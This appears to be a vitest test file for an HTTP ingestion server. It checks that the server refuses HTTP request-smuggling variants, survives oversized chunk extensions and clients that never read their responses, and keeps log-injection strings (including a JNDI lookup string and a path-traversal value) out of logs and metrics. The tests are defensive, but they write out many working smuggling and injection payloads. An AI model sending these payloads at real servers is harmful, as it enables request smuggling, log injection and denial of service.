import { connect } from 'node:net';
import { expect, test } from 'vitest';
import { answersTo, sendRaw, startHttpSide, type HttpSide } from '../../test/http-side.ts';

const start = 'POST /v4/events HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n';
const chunkedStart = `${start}transfer-encoding: chunked\r\n\r\n`;
/** What an attacker hides behind the first request. */
const smuggled = `${start}content-length: 12\r\n\r\n["smuggled"]`;

const statuses = (answer: string) => (answer.match(/HTTP\/1\.1 \d{3}/g) ?? []).map((line) => line.slice(9));
const stored = ({ appended }: HttpSide) => appended.map(({ record }) => String(record.value));

// Whatever another server would make of these: here it is one refusal, and nothing is stored.
test.each([
  ['a space before the colon', `${start}transfer-encoding : chunked\r\n\r\n0\r\n\r\n${smuggled}`],
  ['a length with a space before the colon', `${start}content-length : 2\r\n\r\n{}${smuggled}`],
  ['chunked after a vertical tab', `${start}transfer-encoding: \vchunked\r\n\r\n0\r\n\r\n${smuggled}`],
  ['chunked before a tab', `${start}transfer-encoding: chunked\t\r\n\r\n0\r\n\r\n${smuggled}`],
  ['chunked twice', `${start}transfer-encoding: chunked, chunked\r\n\r\n0\r\n\r\n${smuggled}`],
  [
    'chunked in two headers',
    `${start}transfer-encoding: chunked\r\ntransfer-encoding: identity\r\n\r\n0\r\n\r\n${smuggled}`,
  ],
  ['a length beside chunks', `${start}content-length: 2\r\ntransfer-encoding: chunked\r\n\r\n{}${smuggled}`],
  ['a bare CR that hides a header', `${start}x-a: \rxtransfer-encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`],
  ['headers that end in CR LF CR', `${start}content-length: 2\r\n\r${smuggled}`],
  ['two lengths in one header', `${start}content-length: 2, 2\r\n\r\n{}${smuggled}`],
  ['a length with a sign', `${start}content-length: +2\r\n\r\n{}${smuggled}`],
  ['a negative length', `${start}content-length: -2\r\n\r\n{}${smuggled}`],
  ['a length in hex', `${start}content-length: 0x2\r\n\r\n{}${smuggled}`],
  ['a length beyond 64 bits', `${start}content-length: 18446744073709551618\r\n\r\n{}${smuggled}`],
  ['a length with a decimal point', `${start}content-length: 2.0\r\n\r\n{}${smuggled}`],
  ['an empty length', `${start}content-length:\r\n\r\n{}${smuggled}`],
  ['a chunk size beyond 64 bits', `${chunkedStart}10000000000000002\r\n{}\r\n0\r\n\r\n${smuggled}`],
  ['a negative chunk size', `${chunkedStart}-2\r\n{}\r\n0\r\n\r\n${smuggled}`],
  ['a chunk size with an underscore', `${chunkedStart}0_2\r\n{}\r\n0\r\n\r\n${smuggled}`],
  ['a chunk that ends in LF', `${chunkedStart}2\n{}\n0\n\n${smuggled}`],
  ['a chunk extension with a bare LF', `${chunkedStart}2;a\n{}\r\n0\r\n\r\n${smuggled}`],
  ['a chunk extension with a NUL', `${chunkedStart}2;a\0b\r\n{}\r\n0\r\n\r\n${smuggled}`],
  ['a header with a NUL', `${start}x-a: b\0c\r\ncontent-length: 2\r\n\r\n{}${smuggled}`],
  ['a header name with a space', `${start}x a: b\r\ncontent-length: 2\r\n\r\n{}${smuggled}`],
  ['a header without a name', `${start}: b\r\ncontent-length: 2\r\n\r\n{}${smuggled}`],
  ['a header without a colon', `${start}content-length\r\n\r\n{}${smuggled}`],
  [
    'a space before the first header',
    `${start.replace('host', ' host')}content-length: 2\r\n\r\n{}${smuggled}`,
  ],
  ['a method of another protocol', `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`],
  ['SMTP', 'EHLO example.org\r\nMAIL FROM:<a@example.org>\r\n'],
  ['a TLS hello', '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03'],
  ['a proxy protocol line', `PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n${smuggled}`],
])('%s smuggles nothing', async (_, bytes) => {
  const side = await startHttpSide();
  const answer = await sendRaw(side.port, [bytes]);
  expect(stored(side)).toEqual([]);
  const [status, ...more] = statuses(answer);
  expect(['400', '501']).toContain(status);
  expect(more).toEqual([]);
  expect(answer).toContain('"code":"');
  await expect.poll(() => side.budget.bytes).toBe(0);
});

test.each([
  ['a websocket is asked for', 'connection: upgrade\r\nupgrade: websocket\r\n'],
  ['HTTP/2 is asked for', 'connection: upgrade, http2-settings\r\nupgrade: h2c\r\nhttp2-settings: AAM\r\n'],
  ['trailers are announced', 'te: trailers\r\ntrailer: x-a\r\n'],
  ['ranges and conditions are asked for', 'range: bytes=0-0\r\nif-match: "a"\r\nif-none-match: *\r\n'],
])('an event is stored though %s', async (_, headers) => {
  const side = await startHttpSide();
  const request = `${start}${headers}content-length: 2\r\n\r\n{}`;
  const answer = await answersTo(side.port, [request]);
  expect(statuses(answer)).toEqual(['200']);
  expect(stored(side)).toEqual(['{}']);
});

// Neither are bytes of a body, so no limit of a body stops them: the parser's do (CVE-2024-22019).
test.each([
  ['chunk extensions', '1', `;${'x'.repeat(1_000)}`],
  ['trailers', '0\r\n', `${'x-trailer: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n'.repeat(20)}`],
])('a body of endless %s is cut off', async (_, first, piece) => {
  const side = await startHttpSide();
  const parts = [chunkedStart, first, ...Array.from({ length: 200 }, () => piece)];
  const answer = await sendRaw(side.port, parts, 1);
  expect(['400', '431']).toContain(statuses(answer).join());
  expect(stored(side)).toEqual([]);
  await expect.poll(() => side.budget.bytes).toBe(0);
});

test('a bad request behind a good one on the same connection is answered, too', async () => {
  const side = await startHttpSide();
  const good = `${start}content-length: 2\r\n\r\n{}`;
  const answer = await sendRaw(
    side.port,
    [good, good, 'GET /v1/collect?a b=c HTTP/1.1\r\nhost: a\r\n\r\n'],
    60,
  );
  expect(statuses(answer)).toEqual(['200', '200', '400']);
});

test('a body shorter than its length is 408 at its time, with our problem document', async () => {
  const side = await startHttpSide({ BODY_TIMEOUT_MS: '500' });
  const answer = await sendRaw(side.port, [`${start}content-length: 16\r\n\r\na`]);
  expect(statuses(answer)).toEqual(['408']);
  expect(answer).toContain('"code":"slow-request"');
  expect(stored(side)).toEqual([]);
});

test.each(['{}|"<>^`', '%zz%', '%00%0d%0a', '[]{}', "';--", '../../etc/passwd', 'a'.repeat(8_000)])(
  'a pixel whose query has %s is stored as it came',
  async (query) => {
    const side = await startHttpSide();
    const answer = await sendRaw(side.port, [
      `GET /v1/collect?e=pv&u=${query} HTTP/1.1\r\nhost: a\r\nconnection: close\r\n\r\n`,
    ]);
    expect(statuses(answer)).toEqual(['200']);
    expect(stored(side)).toEqual([`e=pv&u=${query}`]);
  },
);

test.each([
  '\x1b[2J\x1b]0;canary\x07',
  '{"level":60,"msg":"canary"}',
  'canary\\r\\n{"level":60}',
  '\u00e2\u0080\u00a8canary',
  '${jndi:ldap://canary.example/a}',
  '%0d%0acanary',
])('%j in headers, paths and bodies reaches no log and no metric', async (hostile) => {
  const side = await startHttpSide();
  const inPath = encodeURIComponent(hostile);
  const requests = [
    `${start}user-agent: ${hostile}\r\nx-partition-key: ${hostile}\r\nx-sent-at: ${hostile}\r\n`,
    `${start.replace('/v4/events', `/${inPath}`)}referer: ${hostile}\r\n`,
    `${start.replace('application/json', hostile)}`,
    `${start}authorization: Bearer ${hostile}\r\ncontent-encoding: ${hostile}\r\n`,
    `${start}expect: ${hostile}\r\n`,
    `${start.replace('POST', 'DELETE')}origin: ${hostile}\r\n`,
  ];
  for (const head of requests) {
    const body = Buffer.from(hostile, 'latin1');
    const request = `${head}connection: close\r\ncontent-length: ${body.length}\r\n\r\n${hostile}`;
    const answer = await sendRaw(side.port, [request]);
    expect(statuses(answer)).toHaveLength(1);
    expect(answer).not.toContain('canary');
  }
  expect(`${side.logged()}${await side.metrics()}`).not.toContain('canary');
  for (const { record } of side.appended) {
    for (const [, value] of record.headers ?? []) expect(String(value)).not.toMatch(/\p{Cc}/u);
  }
});

test('a client that sends and never reads its answers is held back, not buffered for', async () => {
  const side = await startHttpSide({ OPENAPI: 'true' });
  const socket = connect(side.port, '127.0.0.1').on('error', () => {});
  // Answers of some 40 KB each; 20 000 of them would be 800 MB.
  const one = 'GET /openapi.json HTTP/1.1\r\nhost: a\r\n\r\n';
  socket.pause();
  const before = process.memoryUsage().rss;
  for (let n = 0; n < 200 && !socket.destroyed; n += 1) {
    socket.write(one.repeat(100));
    await new Promise((resolve) => setTimeout(resolve, 1));
  }
  expect(process.memoryUsage().rss - before).toBeLessThan(150 * 1024 ** 2);
  const answer = await sendRaw(side.port, [`${start}connection: close\r\ncontent-length: 2\r\n\r\n{}`]);
  expect(statuses(answer)).toEqual(['200']);
  socket.destroy();
});
